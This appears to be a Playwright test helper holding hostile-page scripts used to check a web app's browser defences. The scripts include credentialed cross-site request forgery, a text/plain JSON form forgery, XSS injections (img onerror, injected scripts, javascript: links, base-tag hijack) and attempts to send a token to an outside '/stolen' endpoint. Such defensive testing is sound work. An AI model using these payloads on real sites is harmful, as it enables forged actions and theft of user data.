import type { Page } from 'playwright-core';

/**
 * What a hostile page does, as text for a browser: the tests' own types know no `document`. Each is a function of what it
 * is to be tried on.
 * @returns what the script does
 */
export const run = <Result>(page: Page, script: string, triedOn: unknown): Promise<Result> =>
  page.evaluate<Result>(`(${script})(${JSON.stringify(triedOn)})`);

/**
 * Requests in the visitor's name, by `[method, url]`: with and without CORS, plain, as JSON, and with a token.
 * @returns those that a form could not send as well, with the answer's type, or `refused`
 */
export const FORGE = `async (tries) => {
  const outcomes = [];
  const attempt = async (url, init) => {
    try {
      const signal = AbortSignal.timeout(8000);
      const response = await fetch(url, { credentials: 'include', signal, ...init });
      await response.arrayBuffer();
      return response.type;
    } catch ({ name }) {
      return name === 'TypeError' ? 'refused' : name;
    }
  };
  for (const [method, url] of tries) {
    const body = method === 'GET' ? null : JSON.stringify({ name: 'Stolen' });
    const isSimple = method === 'GET' || method === 'POST';
    if (isSimple) await attempt(url, { method, body, mode: 'no-cors' });
    const plain = await attempt(url, { method, body });
    if (!isSimple) outcomes.push([method, url, plain]);
    for (const headers of [{ 'content-type': 'application/json' }, { authorization: 'Bearer x' }])
      outcomes.push([method, url, await attempt(url, { method, body, headers })]);
  }
  return outcomes;
}`;

/** Sends a form that looks like JSON to this address, and waits for what comes back. */
export const SUBMIT = `async (action) => {
  const form = Object.assign(document.createElement('form'), { action, method: 'POST', enctype: 'text/plain' });
  const frame = Object.assign(document.createElement('iframe'), { name: crypto.randomUUID() });
  form.target = frame.name;
  form.append(Object.assign(document.createElement('input'), { name: '{"name":"Stolen","x":"', value: '"}' }));
  document.body.append(frame, form);
  const answered = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
  form.submit();
  await answered;
}`;

/** Loads what another site shows, as pages may that ask nobody: its script, its pages. @returns `refused` for each that was */
export const READ = `async ([base, file]) => {
  const read = (url, init) => fetch(url, init).then(({ type }) => type, () => 'refused');
  const loaded = await new Promise((resolve) => {
    const script = document.createElement('script');
    script.onload = () => resolve('loaded');
    script.onerror = () => resolve('refused');
    script.src = base + file;
    document.head.append(script);
  });
  const asPicture = { mode: 'no-cors', credentials: 'include' };
  return [loaded, await read(base + '/', asPicture), await read(base + '/config.json', asPicture)];
}`;

/** Puts pages into frames, and waits for each. */
export const FRAME = `async (urls) => {
  for (const url of urls) {
    const frame = Object.assign(document.createElement('iframe'), { src: url });
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    document.body.append(frame);
    await loaded;
  }
}`;

/**
 * What markup could try that got into a page of ours: run scripts, and carry something off to this place.
 * @returns by attempt: `done`, or the name of the error; what fails in silence is seen by what it did not do
 */
export const INJECT = `async (elsewhere) => {
  const tried = {};
  const attempt = (what, work) => {
    try {
      work();
      tried[what] = 'done';
    } catch (error) {
      tried[what] = error.name;
    }
  };
  const make = (tag, fields) => {
    const element = Object.assign(document.createElement(tag), fields);
    document.body.append(element);
    return element;
  };
  attempt('markup', () => make('div', { innerHTML: '<img src=x onerror="window.pwned = 1">' }));
  attempt('a script', () => make('script', { text: 'window.pwned = 1' }));
  attempt('a script from elsewhere', () => make('script', { src: elsewhere + '/x.js' }));
  attempt('a policy of its own', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
  attempt('a handler', () => make('b', {}).setAttribute('onclick', 'window.pwned = 1'));
  make('a', { href: 'javascript:window.pwned=1' }).click();
  make('img', { src: elsewhere + '/stolen' });
  make('iframe', { src: elsewhere + '/stolen' });
  make('form', { action: elsewhere + '/stolen', method: 'POST' }).submit();
  make('base', { href: elsewhere });
  tried['another base'] = document.baseURI.startsWith(elsewhere) ? 'done' : 'TypeError';
  tried['sending away'] = await fetch(elsewhere + '/stolen', { method: 'POST', body: 'token' }).then(
    () => 'done',
    (error) => error.name,
  );
  return tried;
}`;
